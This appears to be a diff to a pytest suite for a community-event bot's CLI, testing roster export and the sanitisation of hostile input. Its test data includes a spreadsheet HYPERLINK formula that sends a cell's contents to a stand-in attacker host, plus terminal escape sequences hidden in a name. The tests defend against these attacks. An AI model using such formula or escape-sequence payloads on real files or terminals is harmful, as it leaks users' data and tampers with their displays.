@@ -14,7 +14,6 @@ import pytest
 from click.testing import CliRunner
 from sqlalchemy import select
 
-from bot.cli.events import spreadsheet_text
 from bot.services import Services
 from bot.wechat.fake_api import FakeWeChatServer
 from models import OutboxMessage
@@ -413,7 +412,12 @@ def test_roster_in_every_format(staff: CliRunner, services: Services, tmp_path: 
         (1, "o-3"),
         (2, "o-4"),
     ]
-    assert data["confirmed"][0]["checked_in"] and data["attendance"][0]["method"] == "code"
+    assert data["attendance"][0]["method"] == "code"
+    assert data["confirmed"][0]["checked_in"] == data["attendance"][0]["checked_in"]
+    assert data["confirmed"][1]["checked_in"] is None
+    assert datetime.fromisoformat(data["confirmed"][0]["signed_up"]).utcoffset() == timedelta(
+        hours=8
+    )
 
     path = tmp_path / "roster.csv"
     result = run(staff, "events", "roster", str(event_id), "--csv", str(path))
@@ -426,7 +430,14 @@ def test_roster_in_every_format(staff: CliRunner, services: Services, tmp_path: 
 
 
 @pytest.mark.parametrize(
-    "name", ['=HYPERLINK("http://evil.example/?x="&B2,"点我")', "+1+1", "-2+3", "@SUM(A1)"]
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?x="&B2,"点我")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "＝1+1",
+    ],
 )
 def test_roster_csv_keeps_a_formula_name_as_text(
     staff: CliRunner, services: Services, tmp_path: Path, name: str
@@ -444,18 +455,6 @@ def test_roster_csv_keeps_a_formula_name_as_text(
         rows = list(csv.DictReader(handle))
     assert [row["name"] for row in rows] == [f"'{name}", "李四-2", f"'{name}"]
     assert rows[0]["mobile"] == "13812345678" and rows[0]["party_size"] == "1"
-
-
-def test_spreadsheet_text_quotes_every_formula_start() -> None:
-    assert [spreadsheet_text(cell) for cell in ("\t=1", "\r=1", "=1", "张三", "", None, 2)] == [
-        "'\t=1",
-        "'\r=1",
-        "'=1",
-        "张三",
-        "",
-        None,
-        2,
-    ]
 
 
 def test_roster_refusals(staff: CliRunner, tmp_path: Path) -> None:
@@ -589,3 +588,22 @@ def test_qr_without_credentials(staff: CliRunner, tmp_path: Path) -> None:
     event_id = create(staff)
     out = str(tmp_path / "qr.png")
     assert "wechat.token is required" in fail(staff, "events", "qr", str(event_id), "--out", out)
+
+
+def test_a_residents_control_characters_never_reach_the_terminal(
+    staff: CliRunner, services: Services
+) -> None:
+    """A name with a C1 control (U+009B reads as CSI) or ESC is shown with U+FFFD in the
+    roster's table and the check-in line, and kept whole in JSON."""
+    name = "王\x9b2J阿姨\x1b]0;x"
+    event_id = create(staff, "--publish", days=0.05)
+    residents_sign_up(services, event_id, "o-1")
+    with services.session_factory() as db, db.begin():
+        get_or_create_resident(db, "o-1", utcnow()).name = name
+    line = run(staff, "events", "checkin", str(event_id), "--openid", "o-1").stdout
+    table = run(staff, "events", "roster", str(event_id)).stdout
+    for output in (line, table):
+        assert "王\ufffd2J阿姨\ufffd]0;x" in output
+        assert not any(0x80 <= ord(ch) <= 0x9F or ch == "\x1b" for ch in output)
+    data = json.loads(run(staff, "events", "roster", str(event_id), "--json").stdout)
+    assert data["confirmed"][0]["name"] == name
